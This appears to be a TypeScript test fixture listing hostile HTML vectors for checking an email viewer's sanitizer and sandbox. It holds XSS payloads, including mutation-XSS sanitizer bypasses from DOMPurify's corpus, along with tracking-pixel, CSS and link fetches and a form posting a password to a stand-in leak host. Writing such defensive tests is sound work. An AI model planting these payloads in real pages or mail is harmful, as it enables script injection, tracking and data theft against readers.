/**
 * Hostile HTML for the body frame, one attack per entry, each wired to a detector:
 * - `script` vectors, if any of their code runs, call `top.postMessage('xss:<name>', '*')`. The
 *   window collects those messages (postMessage is not subject to CSP, and `top` is reachable
 *   from every frame, sandboxed or not).
 * - `network` vectors point at `https://<name>.leak.test/<name>`. Nothing answers there: the
 *   harness's recording proxy sees every request Chromium tries, from any process. The name is
 *   in the host because for https the proxy only ever sees `CONNECT host:443`; an http URL would
 *   keep its path but is mixed content on our https page (blocked or upgraded by the browser,
 *   whatever our own protections do), which would make the test prove less.
 *
 * The mutation-XSS entries (names starting `mxss-`) are payloads from DOMPurify's own test corpus
 * (cure53/DOMPurify, test/fixtures/expect.mjs); the titles they carry there are quoted.
 */

export interface HostileVector {
  /** Lower-case letters, digits and hyphens: it is a DNS label and a message tag. */
  name: string;
  html: string;
  kind: 'script' | 'network';
  /**
   * The payload leaves the parser inside foreign content that no end tag can leave, and the
   * sanitizer drops it together with everything after it: it must be the last vector of its mail.
   */
  endsMail?: boolean;
}

/** What a script vector runs: proof of execution that CSP does not stop. */
export const xssMessage = (name: string) => `xss:${name}`;
const run = (name: string) => `top.postMessage('${xssMessage(name)}','*')`;

export const LEAK_DOMAIN = 'leak.test';
export const leakUrl = (name: string) => `https://${name}.${LEAK_DOMAIN}/${name}`;

const script = (name: string, html: (code: string) => string): HostileVector => ({
  name,
  kind: 'script',
  html: html(run(name)),
});
const network = (name: string, html: (url: string) => string): HostileVector => ({
  name,
  kind: 'network',
  html: html(leakUrl(name)),
});

/** An HTML document as a data: URL (its markup percent-encoded, so quotes cannot break out). */
const dataUrl = (type: string, markup: string) => `data:${type},${encodeURIComponent(markup)}`;
const svgDocument = (code: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"><script>${code}</script></svg>`;

export const HOSTILE_VECTORS: HostileVector[] = [
  // ── Script elements ───────────────────────────────────────────────────────────────────────────
  // The plain inline script.
  script('script-tag', (code) => `<script>${code}</script>`),
  // A script loaded from a data: URL (no network, so only CSP/sandbox/sanitizer stop it).
  script('script-src-data', (code) => `<script src="data:text/javascript,${code}"></script>`),
  // Script inside SVG: a separate namespace that naive filters do not look into.
  script('svg-script', (code) => `<svg><script>${code}</script></svg>`),
  // Declarative shadow DOM: markup in a shadow root, where a sanitizer walking the light tree
  // would not look (a parser that honours shadowrootmode builds it; ours must not run it).
  script(
    'shadow-root-onerror',
    (code) =>
      `<div><template shadowrootmode="open"><img src="x" onerror="${code}"></template></div>`,
  ),

  // ── Event-handler attributes, one per family ──────────────────────────────────────────────────
  // Resource error: the most common handler vector.
  script('img-onerror', (code) => `<img src="x" onerror="${code}">`),
  // <image> is rewritten to <img> by the HTML parser, after a filter may have looked for "img".
  script('image-alias-onerror', (code) => `<image src="x" onerror="${code}">`),
  // Document load on <body> (merged into the real body by the parser).
  script('body-onload', (code) => `<body onload="${code}">`),
  // pageshow fires on every document display, also on <body>.
  script('body-onpageshow', (code) => `<body onpageshow="${code}">`),
  // SVG load event: fires without any resource.
  script('svg-onload', (code) => `<svg onload="${code}"></svg>`),
  // Focus without user action: autofocus fires onfocus at load.
  script('input-autofocus-onfocus', (code) => `<input autofocus onfocus="${code}">`),
  // Toggle fires for an open <details> at load.
  script(
    'details-ontoggle',
    (code) => `<details open ontoggle="${code}"><summary>details</summary>x</details>`,
  ),
  // SMIL animation start, no user action needed.
  script(
    'svg-animate-onbegin',
    (code) => `<svg><animate onbegin="${code}" attributeName="x" dur="1s"></animate></svg>`,
  ),
  // A CSS animation the mail declares itself fires animationstart.
  script(
    'css-onanimationstart',
    (code) =>
      `<style>@keyframes hostile-spin{from{opacity:1}to{opacity:.9}}</style>` +
      `<div style="animation:hostile-spin 1s" onanimationstart="${code}">animated</div>`,
  ),
  // The legacy <marquee> start event.
  script('marquee-onstart', (code) => `<marquee onstart="${code}">marquee</marquee>`),
  // Media error on a <source> child.
  script('video-source-onerror', (code) => `<video><source src="x" onerror="${code}"></video>`),
  // Media error on <audio>.
  script('audio-onerror', (code) => `<audio src="x" onerror="${code}"></audio>`),
  // A plain click handler (the test clicks every element that has one).
  script('div-onclick', (code) => `<div onclick="${code}" tabindex="0">click me</div>`),

  // ── javascript: and data: URLs ────────────────────────────────────────────────────────────────
  // The classic link.
  script('a-javascript', (code) => `<a href="javascript:${code}">javascript link</a>`),
  // A tab inside the scheme: URL parsers drop it, naive filters do not match "javascript:".
  script('a-javascript-tab', (code) => `<a href="jav&#x09;ascript:${code}">tabbed link</a>`),
  // Leading control characters, which URL parsers strip (after DOMPurify's "Low-range-ASCII
  // obfuscated JavaScript URI"; its \u0003 inside the scheme fooled only old browsers).
  script('a-javascript-control', (code) => `<a href="\u0001\u0003javascript:${code}">ctrl</a>`),
  // A link to an HTML document in a data: URL (navigates the frame into script).
  script(
    'a-data-html',
    (code) => `<a href="${dataUrl('text/html', `<script>${code}</script>`)}">data link</a>`,
  ),
  // A nested frame running a javascript: URL.
  script('iframe-javascript', (code) => `<iframe src="javascript:${code}"></iframe>`),
  // A nested frame with its own scripted document.
  script('iframe-srcdoc', (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`),
  // A nested frame on a data: HTML document.
  script(
    'iframe-data-html',
    (code) => `<iframe src="${dataUrl('text/html', `<script>${code}</script>`)}"></iframe>`,
  ),
  // <object> on an HTML document.
  script(
    'object-data-html',
    (code) => `<object data="${dataUrl('text/html', `<script>${code}</script>`)}"></object>`,
  ),
  // <object> on an SVG document with script.
  script(
    'object-data-svg',
    (code) => `<object data="${dataUrl('image/svg+xml', svgDocument(code))}"></object>`,
  ),
  // <object> on a javascript: URL.
  script('object-javascript', (code) => `<object data="javascript:${code}"></object>`),
  // <embed> on an HTML document.
  script(
    'embed-data-html',
    (code) => `<embed src="${dataUrl('text/html', `<script>${code}</script>`)}">`,
  ),
  // <embed> on a javascript: URL.
  script('embed-javascript', (code) => `<embed src="javascript:${code}">`),
  // A form whose action is script.
  script(
    'form-action-javascript',
    (code) => `<form action="javascript:${code}"><button>send form</button></form>`,
  ),
  // formaction on a button overrides the form's action.
  script(
    'button-formaction-javascript',
    (code) => `<form><button formaction="javascript:${code}">formaction</button></form>`,
  ),
  // An SVG link with an xlink:href script URL.
  script(
    'svg-xlink-javascript',
    (code) =>
      `<svg width="120" height="30"><a xlink:href="javascript:${code}">` +
      `<text x="4" y="20">svg link</text></a></svg>`,
  ),
  // SVG animation that rewrites a harmless href into a script URL (DOMPurify #137's shape).
  script(
    'svg-set-href',
    (code) =>
      `<svg width="120" height="30"><a href="#"><set attributeName="href" to="javascript:${code}"/>` +
      `<text x="4" y="20">animated link</text></a></svg>`,
  ),
  // MathML href (DOMPurify "MathML", #130).
  script('math-href', (code) => `<math href="javascript:${code}">CLICKME</math>`),
  // HTML inside SVG's foreignObject is HTML again: handlers included.
  script(
    'svg-foreignobject',
    (code) => `<svg><foreignObject><img src="x" onerror="${code}"></foreignObject></svg>`,
  ),
  // Declarative shadow DOM: markup inside <template shadowrootmode> is live once attached.
  script(
    'declarative-shadow-dom',
    (code) =>
      `<div><template shadowrootmode="open"><img src="x" onerror="${code}"></template></div>`,
  ),

  // ── Mutation XSS (parser differentials; payloads from DOMPurify's test corpus) ────────────────
  // The DOMPurify 2.0.0 bypass: namespace confusion via </p> in SVG.
  script(
    'mxss-svg-p-style',
    (code) => `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  ),
  // "Tests against mXSS behavior with SVG in Chrome 77 and alike 1/2".
  script(
    'mxss-svg-textarea',
    (code) =>
      `<svg></p><textarea><title><style></textarea><img src=x onerror=${code}></style></title></svg>`,
  ),
  // "Tests against mXSS behavior with SVG in Chrome 77 and alike 2/2".
  script(
    'mxss-svg-title',
    (code) => `<svg></p><title><a id="</title><img src=x onerror=${code}>"></textarea></svg>`,
  ),
  // "Tests against mXSS behavior with MathML in Chrome 77 and alike".
  script(
    'mxss-math-textarea',
    (code) => `<math></p><textarea><mi><style></textarea><img src=x onerror=${code}></mi></math>`,
  ),
  // "Tests against mXSS behavior with embedded MathML/SVG".
  script(
    'mxss-svg-math-title',
    (code) => `<svg></p><math><title><style><img src=x onerror=${code}></style></title>`,
  ),
  // "Tests against attribute-based mXSS behavior 1/3".
  script(
    'mxss-svg-p-style-title',
    (code) => `<svg><p><style><g title="</style><img src=x onerror=${code}>">`,
  ),
  // "Tests against nesting-based mXSS behavior 1/5".
  {
    ...script(
      'mxss-form-mglyph',
      (code) => `<form><math><mtext></form><form><mglyph><style><img src=x onerror=${code}>`,
    ),
    endsMail: true,
  },
  // The <mtext><table><mglyph><style> namespace confusion (cf. "nesting-based mXSS 2/5").
  script(
    'mxss-mtext-table-mglyph',
    (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  ),
  // "Tests against nesting-based mXSS behavior 3/5".
  {
    ...script(
      'mxss-mglyph-comment',
      (code) =>
        `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
    ),
    endsMail: true,
  },
  // "Test against fake-element-based namespace-confusion abusing mXSS attacks 2/2".
  script(
    'mxss-fake-element',
    (code) =>
      `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style>` +
      `<a title="</style><img src=x onerror=${code}>">`,
  ),
  // "Img element inside noscript terminated inside attribute": noscript parses differently
  // with scripting on and off.
  script(
    'mxss-noscript-attribute',
    (code) => `<b><noscript><a alt="</noscript><img src=x onerror=${code}>"></noscript>`,
  ),
  // DOMPurify #128: <style> inside SVG is not raw text.
  script('mxss-svg-style-img', (code) => `<svg><style><img/src=x onerror=${code}// </b>`),
  // "Tests against removal-based mXSS behavior 2/2" shape: <noembed> is raw text.
  script('mxss-noembed', (code) => `<noembed><img title="</noembed><img src=x onerror=${code}>">`),

  // ── Tracking pixels and remote pictures ───────────────────────────────────────────────────────
  // The classic 1×1 tracking pixel.
  network('img-tracking-pixel', (url) => `<img src="${url}" width="1" height="1" alt="">`),
  // The pixel inside a declarative shadow root.
  network(
    'shadow-root-pixel',
    (url) => `<div><template shadowrootmode="open"><img src="${url}" alt=""></template></div>`,
  ),
  // An http picture (mixed content: Chromium upgrades pictures to https).
  network('img-http', (url) => `<img src="${url.replace('https:', 'http:')}" alt="">`),
  // A protocol-relative picture.
  network('img-protocol-relative', (url) => `<img src="${url.replace('https:', '')}" alt="">`),
  // srcset candidates load instead of src.
  network('img-srcset', (url) => `<img srcset="${url} 1x" alt="">`),
  // <picture><source srcset> picks its own URL.
  network('picture-source', (url) => `<picture><source srcset="${url}"><img alt=""></picture>`),
  // A form image button fetches its picture.
  network('input-image', (url) => `<input type="image" src="${url}" alt="go">`),
  // Video poster frame.
  network('video-poster', (url) => `<video poster="${url}"></video>`),
  // Video source preloaded.
  network('video-src', (url) => `<video src="${url}" preload="auto"></video>`),
  // Audio source preloaded.
  network('audio-src', (url) => `<audio src="${url}" preload="auto"></audio>`),
  // A default text track loads its file.
  network('video-track', (url) => `<video><track default kind="captions" src="${url}"></video>`),
  // SVG <image href>.
  network('svg-image-href', (url) => `<svg><image href="${url}" width="10" height="10"/></svg>`),
  // SVG <image xlink:href>.
  network(
    'svg-image-xlink',
    (url) => `<svg><image xlink:href="${url}" width="10" height="10"/></svg>`,
  ),
  // SVG <use> of an external document.
  network('svg-use-href', (url) => `<svg><use href="${url}#shape"/></svg>`),
  // SVG filter primitive that loads a picture.
  network(
    'svg-feimage',
    (url) =>
      `<svg width="10" height="10"><filter id="leak-filter"><feImage href="${url}"/></filter>` +
      `<rect width="10" height="10" filter="url(#leak-filter)"/></svg>`,
  ),

  // ── Legacy background attributes ──────────────────────────────────────────────────────────────
  // <body background>.
  network('body-background', (url) => `<body background="${url}">`),
  // <table background>.
  network(
    'table-background',
    (url) => `<table background="${url}"><tr><td>table</td></tr></table>`,
  ),
  // <td background>.
  network('td-background', (url) => `<table><tr><td background="${url}">cell</td></tr></table>`),

  // ── CSS ───────────────────────────────────────────────────────────────────────────────────────
  // url() in a style attribute.
  network('style-attr-url', (url) => `<div style="background:url(${url})">style url</div>`),
  // url() in a style attribute, quoted with an entity.
  network(
    'style-attr-entity-quote',
    (url) => `<div style="background-image:url(&quot;${url}&quot;)">entity</div>`,
  ),
  // A CSS escape hides "url" from a filter looking for the word: \75 is "u".
  network('css-escape-url', (url) => `<div style="background:\\75 rl(${url})">escaped</div>`),
  // url() in a <style> sheet.
  network(
    'style-sheet-url',
    (url) =>
      `<style>.leak-sheet{background-image:url("${url}")}</style><p class="leak-sheet">s</p>`,
  ),
  // @import of a remote sheet.
  network('style-import', (url) => `<style>@import url("${url}");</style>`),
  // @import with a bare string.
  network('style-import-string', (url) => `<style>@import "${url}";</style>`),
  // image-set() instead of url().
  network(
    'css-image-set',
    (url) => `<div style="background-image:image-set('${url}' 1x)">is</div>`,
  ),
  // The prefixed -webkit-image-set().
  network(
    'css-webkit-image-set',
    (url) => `<div style="background-image:-webkit-image-set(url(${url}) 1x)">wis</div>`,
  ),
  // A remote web font.
  network(
    'css-font-face',
    (url) =>
      `<style>@font-face{font-family:leak-font;src:url("${url}")}</style>` +
      `<p style="font-family:leak-font">font</p>`,
  ),
  // list-style-image.
  network(
    'css-list-style-image',
    (url) => `<ul style="list-style-image:url(${url})"><li>i</li></ul>`,
  ),
  // A custom cursor picture.
  network('css-cursor', (url) => `<div style="cursor:url(${url}),auto">cursor</div>`),
  // border-image.
  network(
    'css-border-image',
    (url) => `<div style="border:4px solid;border-image:url(${url}) 4">border</div>`,
  ),
  // Generated content.
  network(
    'css-content-url',
    (url) =>
      `<style>.leak-content::before{content:url("${url}")}</style><p class="leak-content">c</p>`,
  ),

  // ── <link> ────────────────────────────────────────────────────────────────────────────────────
  network('link-stylesheet', (url) => `<link rel="stylesheet" href="${url}">`),
  network('link-prefetch', (url) => `<link rel="prefetch" href="${url}">`),
  network('link-preload', (url) => `<link rel="preload" as="image" href="${url}">`),
  network('link-icon', (url) => `<link rel="icon" href="${url}">`),
  network('link-preconnect', (url) => `<link rel="preconnect" href="${url}">`),

  // ── Navigation, nested content, forms ─────────────────────────────────────────────────────────
  // Refresh to a remote page without a click.
  network('meta-refresh', (url) => `<meta http-equiv="refresh" content="0;url=${url}">`),
  // <base> turns every relative URL after it into a remote one.
  network(
    'base-href',
    (url) => `<base href="${url.slice(0, url.lastIndexOf('/') + 1)}"><img src="base-pixel.gif">`,
  ),
  // A remote nested page.
  network('iframe-remote', (url) => `<iframe src="${url}"></iframe>`),
  // A remote plug-in document.
  network('object-remote', (url) => `<object data="${url}"></object>`),
  // A remote embed.
  network('embed-remote', (url) => `<embed src="${url}">`),
  // A remote script.
  network('script-src-remote', (url) => `<script src="${url}"></script>`),
  // A form that posts what the reader types.
  network(
    'form-action',
    (url) =>
      `<form action="${url}" method="post"><input name="password" value="secret">` +
      `<button>submit form</button></form>`,
  ),
  // A button that overrides the form's target.
  network(
    'form-formaction',
    (url) => `<form><button formaction="${url}">formaction submit</button></form>`,
  ),
  // Hyperlink auditing: a click sends a ping to another URL than the link's.
  network(
    'a-ping',
    (url) => `<a href="https://example.invalid/ping-carrier" ping="${url}">ping link</a>`,
  ),
];

/**
 * Whatever a vector leaves open (a raw-text element, foreign content, a comment) is closed before
 * the next one starts, so each vector in a grouped mail is parsed as itself. In raw-text states
 * only the matching end tag counts; the others are text, and stray end tags are ignored.
 */
export const VECTOR_SEPARATOR =
  '--></style></textarea></title></noscript></noembed></xmp></script></template>' +
  '</select></option></table></form></math></svg></b></p>\n';
